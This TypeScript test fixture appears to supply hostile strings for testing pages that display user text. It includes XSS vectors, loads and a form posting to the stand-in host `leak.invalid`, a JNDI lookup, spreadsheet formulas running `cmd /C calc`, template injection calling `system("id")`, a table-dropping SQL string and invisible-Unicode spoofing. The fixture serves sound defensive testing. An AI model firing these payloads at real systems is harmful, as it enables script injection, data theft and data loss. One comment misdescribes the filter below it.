/**
 * Texts that would do something, were they ever taken for anything but text: for tests of every page that shows words of others. One that ran would set
 * `window.hacked`, or ask `leak.invalid`.
 */

/** What is tried → the text. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  // Elements that run by themselves.
  script: '<script>window.hacked=1</script>',
  'script in capitals': '<ScRiPt>window.hacked=2</sCrIpT>',
  'script that is cut': '<script>window.hacked=3//',
  'script in a script': '<scr<script>ipt>window.hacked=4</scr</script>ipt>',
  'script from elsewhere': '<script src=//leak.invalid/a.js></script>',
  'module script': '<script type=module>import("//leak.invalid/b.js")</script>',
  'broken image': '<img src=x onerror=window.hacked=5>',
  'broken image with quotes': `<img src='x' onerror='window.hacked="6"'>`,
  'image from elsewhere': '<img src="http://leak.invalid/pixel.png">',
  'image without blanks': '<img/src=x/onerror=window.hacked=7>',
  'svg that loads': '<svg onload=window.hacked=8></svg>',
  'svg with a script': '<svg><script>window.hacked=9</script></svg>',
  'svg that animates':
    '<svg><animate onbegin=window.hacked=10 attributeName=x dur=1s></animate></svg>',
  'svg that uses': '<svg><use href="http://leak.invalid/c.svg#d"/></svg>',
  'svg with a foreign object':
    '<svg><foreignObject><body onload=window.hacked=11></foreignObject></svg>',
  mathml:
    '<math><mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=window.hacked=12>">',
  frame: '<iframe srcdoc="<script>parent.hacked=13</script>"></iframe>',
  'frame from elsewhere': '<iframe src=//leak.invalid></iframe>',
  object: '<object data="data:text/html,<script>parent.hacked=14</script>"></object>',
  embed: '<embed src="//leak.invalid/e.swf">',
  video: '<video><source onerror=window.hacked=15></video>',
  'audio from elsewhere': '<audio autoplay src=//leak.invalid/f.mp3>',
  body: '<body onload=window.hacked=16>',
  details: '<details open ontoggle=window.hacked=17>more</details>',
  'field that takes the focus': '<input autofocus onfocus=window.hacked=18>',
  marquee: '<marquee onstart=window.hacked=19>news</marquee>',
  'refreshed page': '<meta http-equiv=refresh content="0;url=http://leak.invalid/">',
  'another base': '<base href="http://leak.invalid/">',
  'style from elsewhere': '<link rel=stylesheet href=//leak.invalid/g.css>',
  'style that asks': '<style>*{background:url(//leak.invalid/h.png)}</style>',
  'form of others':
    '<form action=http://leak.invalid/><input name=card><button>Send</button></form>',
  'page over the page':
    '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Log in again</div>',
  template: '<template><script>window.hacked=20</script></template>',
  'element of its own': '<x-y onclick=window.hacked=21 style=display:block>press</x-y>',

  // Ends of what a text may stand in.
  'end of a text area': '</textarea><script>window.hacked=22</script>',
  'end of a title': '</title><script>window.hacked=23</script>',
  'end of a style': '</style><script>window.hacked=24</script>',
  'end of a comment': '--><script>window.hacked=25</script><!--',
  'end of character data': ']]><script>window.hacked=26</script>',
  'end of an attribute': '" onmouseover="window.hacked=27" x="',
  'end of an attribute in single quotes': "' onfocus='window.hacked=28' tabindex='0",
  'end of a string': "');window.hacked=29;('",
  'end of a string with a backslash': "\\');window.hacked=30;//",
  'end of a template string': '${window.hacked=31}`;window.hacked=31;`',
  'end of JSON': '"}];window.hacked=32;[{"a":"',
  'end of told': `}'></body><script>window.hacked=33</script>`,

  // Links that run, in the ways in which people write links.
  'link of HTML': '<a href="javascript:window.hacked=34">press</a>',
  'link of Markdown': '[press](javascript:window.hacked=35)',
  'link of Markdown to data': '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'image of Markdown': '![x](http://leak.invalid/i.png)',
  'bare address': 'javascript:window.hacked=36',
  'bare address with a tab': 'java\tscript:window.hacked=37',
  'address after #': '#/../../javascript:window.hacked=38?a=<script>',

  // What other programs would fill in or work out.
  'braces of a template': '{{constructor.constructor("window.hacked=39")()}}',
  'marks of a template': '<%= system("id") %>${{7*7}}#{7*7}',
  'look-up of a log': '${jndi:ldap://leak.invalid/j}',
  formula: '=HYPERLINK("http://leak.invalid/"&A1,"press")',
  'formula that calls': "@SUM(1+9)*cmd|' /C calc'!A0",
  'formula with a minus': "-2+3+cmd|' /C calc'!A1",
  'key of every object': '__proto__',
  'maker of every object': 'constructor.prototype.hacked=40',
  'statement of SQL': "x'; drop table run; --",

  // Marks that nobody sees, and what they do.
  'text turned round': 'paid \u202e000,1\u202c to p2',
  'isolated text': '\u2067right\u2069 \u200fleft\u200e',
  'zero width': 'ad\u200bmin\u2060\ufeff',
  tags: 'hello\u{e0068}\u{e0069}\u{e007f}',
  'line separators': 'one\u2028window.hacked=41\u2029two',
  'colours of a terminal': '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  'nulls and bells': 'a\u0000b\u0007c\u0008d\u007fe\u0085f',
  'many marks on one letter': `Z${'\u0300\u0301\u0302\u0303'.repeat(40)}`,
  'letters that look alike': 'раураl аdmin',
  'script in wide letters': '＜script＞window.hacked=42＜/script＞',
  'escaped twice': '&lt;script&gt;window.hacked=43&lt;/script&gt;&amp;lt;&#x3c;script&#x3e;',
  'half a character': 'x\ud83d y\udc00 z',

  // Too much.
  'one long word': 'W'.repeat(2000),
  'many lines': 'line\n'.repeat(200),
  'an emoji of many': '👩‍👩‍👧‍👦🏴‍☠️'.repeat(60),
}

/** All of them, in one order. */
export const hostileTexts: readonly string[] = Object.values(HOSTILE_TEXTS)

/** Those that stand on one line, and are short enough to be a name: the first and every fifth of them, or all. */
export const hostileNames: readonly string[] = hostileTexts.filter(
  (text) => text.length < 100 && !/[\n\t\0]/.test(text) && text.isWellFormed(),
)
